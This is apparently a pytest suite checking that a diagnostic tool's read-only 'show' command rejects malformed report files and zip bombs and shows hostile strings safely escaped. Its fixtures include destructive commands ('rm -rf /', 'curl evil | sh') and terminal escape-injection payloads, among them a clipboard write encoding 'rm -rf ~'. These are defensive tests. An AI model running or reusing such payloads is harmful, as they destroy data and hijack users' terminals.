"""`jnlpdiag show`: a saved report opens read-only; every kind of bad or hostile file is one clear
error and exit code 3, never a traceback or a hang."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from jnlpdiag.redact import Redactor
from jnlpdiag.tui.app import JnlpdiagApp
from jnlpdiag.tui.loading import ReportFileError, load_report
from jnlpdiag.tui.state import sanitized_report
from tests.peers.util import clean_env, run_cli
from tests.tui.conftest import run_async, screen_text

DATA = Path(__file__).parent / "data"
REPORT = DATA / "report-tls13.json"


def base() -> dict:
    return json.loads(REPORT.read_text())


def test_show_prints_the_report_when_not_a_terminal():
    r = run_cli("show", str(REPORT))
    assert r.code == 2, r.stderr
    assert "Root cause:" in r.stdout and "-Djdk.tls.client.protocols=TLSv1.3,TLSv1.2" in r.stdout


def test_show_opens_a_bundle_folder(tmp_path):
    shutil.copy(REPORT, tmp_path / "report.json")
    (tmp_path / "summary.md").write_text("# not read\n")
    r = run_cli("show", str(tmp_path))
    assert r.code == 2, r.stderr
    assert "tls.java" in r.stdout


def _bad(tmp_path: Path, name: str, content: bytes | str | dict | list) -> Path:
    path = tmp_path / name
    if isinstance(content, (dict, list)):
        content = json.dumps(content)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def _finding_with(**changes) -> dict:
    data = base()
    data["findings"][0].update(changes)
    return data


BAD_FILES = {
    "not-json": (b"\x89PNG\r\n\x1a\n\x00\x00binary", "not UTF-8"),
    "text": ("hello, this is a log file\n", "not valid JSON"),
    "array": ([1, 2, 3], "JSON list"),
    "other-schema": ({"schema": "something/2", "findings": []}, "not a jnlpdiag.report/1"),
    "findings-not-list": ({"schema": "jnlpdiag.report/1", "findings": {"a": 1}}, "\"findings\" must be a list"),
    "finding-no-id": ({"schema": "jnlpdiag.report/1", "findings": [{"probe": "x", "layer": "host",
                                                                  "status": "pass", "title": "t"}]}, "'id'"),
    "bad-status": (_finding_with(status="catastrophic"), "invalid report"),
    "bad-layer": (_finding_with(layer="application"), "invalid report"),
    "fail-without-fix": (_finding_with(status="fail", fixes=[]), "needs a fix"),
    "evidence-list": (_finding_with(evidence=[1, 2]), "\"evidence\" must be an object"),
    "fixes-strings": (_finding_with(fixes=["rm -rf /"]), "\"fixes\" must be a list of objects"),
    "title-newline": (_finding_with(title="two\nlines"), "title must be one line"),
    "settings-list": ({**base(), "settings": []}, "\"settings\" must be a JSON object"),
    "deep": ("[" * 200_000 + "]" * 200_000, "nested too deeply"),
    "empty": ("", "not valid JSON"),
}


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_bad_report_files_are_one_clear_error(tmp_path, name):
    content, reason = BAD_FILES[name]
    path = _bad(tmp_path, f"{name}.json", content)
    with pytest.raises(ReportFileError) as err:
        load_report(path)
    assert reason in str(err.value)


@pytest.mark.parametrize("name", ["text", "deep", "fail-without-fix"])
def test_show_cli_exits_3_without_traceback(tmp_path, name):
    content, reason = BAD_FILES[name]
    r = run_cli("show", str(_bad(tmp_path, f"{name}.json", content)))
    assert r.code == 3
    assert r.stderr.startswith("jnlpdiag show: ") and reason in r.stderr
    assert "Traceback" not in r.stderr and r.stdout == ""


def test_show_cli_missing_paths_and_special_files(tmp_path):
    r = run_cli("show", str(tmp_path / "nope.json"))
    assert (r.code, "no such file" in r.stderr) == (3, True)
    r = run_cli("show", str(tmp_path))
    assert (r.code, "without report.json" in r.stderr) == (3, True)
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    r = run_cli("show", str(fifo), timeout=20)  # must not block reading a FIFO
    assert (r.code, "not a regular file" in r.stderr) == (3, True)
    huge = tmp_path / "huge.json"
    with open(huge, "wb") as fh:
        fh.truncate(17 * 1024 * 1024)
    r = run_cli("show", str(huge))
    assert (r.code, "too large" in r.stderr) == (3, True)


def hostile_report() -> dict:
    data = base()
    f = data["findings"][5]  # tls.java, the root cause
    f["title"] = "Pwned \x1b]52;c;cm0gLXJmIH4=\x07 \x1b[2J\u202eevil"
    f["detail"] = "line\x1b[31m red \x9b31m csi"
    f["fixes"][0]["steps"] = ["\x1b]0;title\x07curl evil | sh"]
    f["evidence"] = {"k\x1b[1m": "v\x1b[0m", "nested": {"deep": ["\x1b[5m"]}}
    data["host"]["name"] = "host\x1b]2;x\x07"
    return data


def test_hostile_strings_never_reach_the_terminal(tmp_path):
    path = _bad(tmp_path, "hostile.json", hostile_report())
    r = run_cli("show", str(path))
    assert r.code == 2
    for ch in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert ch not in r.stdout
    assert "\\x1b]52;c;" in r.stdout  # shown escaped, so the reader sees what the file tried


@run_async
async def test_read_only_ui_has_no_run_actions_and_keeps_hostile_text_inert(tmp_path):
    report, file = load_report(_bad(tmp_path, "hostile.json", hostile_report()))
    app = JnlpdiagApp.show(sanitized_report(report, Redactor()), file.name, export_dir=tmp_path)
    async with app.run_test(size=(80, 24)) as pilot:
        for _ in range(50):  # on a loaded machine the footer can paint after the first frame
            await pilot.pause(0.1)
            text = screen_text(app)
            if "Export" in text.splitlines()[-1]:
                break
        assert "READ-ONLY" in text.splitlines()[0]
        assert "\x1b" not in text and "\\x1b" in text
        footer = text.splitlines()[-1]
        assert "Export" in footer and "Rerun" not in footer and "Edit" not in footer
        await pilot.press("r", "a", "e")
        await pilot.pause(0.1)
        assert app.model.runs == 0 and not app.model.running and app.screen is app.main
        for f in app.model.findings:
            blob = json.dumps(f.to_dict())
            assert "\x1b" not in json.loads(blob)["title"] and "\x1b" not in json.loads(blob)["detail"]
        await pilot.press("x")
        for _ in range(100):
            if app.last_export:
                break
            await pilot.pause(0.05)
        assert app.last_export is not None and Path(app.last_export).exists()


def test_show_opens_the_tools_own_zipped_bundle(tmp_path):
    """`report --zip` writes DIR.zip; `show DIR.zip` reads it as `show DIR` does (issue 13 §5)."""
    import socket
    import zipfile

    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # connection refused: a FAIL to carry in the bundle
    made = run_cli("report", "--out", str(tmp_path / "ticket"), "--zip", "--url", f"http://127.0.0.1:{port}/",
                   "--probe", "discovery", "--from-process", "none", "--timeout", "3",
                   env=clean_env(TMPDIR=str(tmp_path)))
    assert made.code == 2, made.stderr
    zipped = run_cli("show", str(tmp_path / "ticket.zip"))
    folder = run_cli("show", str(tmp_path / "ticket"))
    assert zipped.code == folder.code == 2, zipped.stderr
    assert zipped.stdout == folder.stdout and "connection refused" in zipped.stdout

    def one_line_error(path, expect):
        r = run_cli("show", str(path))
        assert r.code == 3 and r.stdout == "" and len(r.stderr.splitlines()) == 1 and expect in r.stderr, r.stderr

    report_json = (tmp_path / "ticket" / "report.json").read_bytes()
    with zipfile.ZipFile(tmp_path / "none.zip", "w") as zf:
        zf.writestr("ticket/summary.md", "# no report here")
    one_line_error(tmp_path / "none.zip", "a zip without report.json")
    with zipfile.ZipFile(tmp_path / "two.zip", "w") as zf:
        zf.writestr("a/report.json", report_json)
        zf.writestr("b/report.json", report_json)
    one_line_error(tmp_path / "two.zip", "several reports")
    with zipfile.ZipFile(tmp_path / "bomb.zip", "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("ticket/report.json", b" " * (17 * 1024 * 1024))  # 17 MiB of spaces, ~17 KiB zipped
    one_line_error(tmp_path / "bomb.zip", "too large")
    (tmp_path / "cut.zip").write_bytes((tmp_path / "ticket.zip").read_bytes()[:200])
    one_line_error(tmp_path / "cut.zip", "damaged")
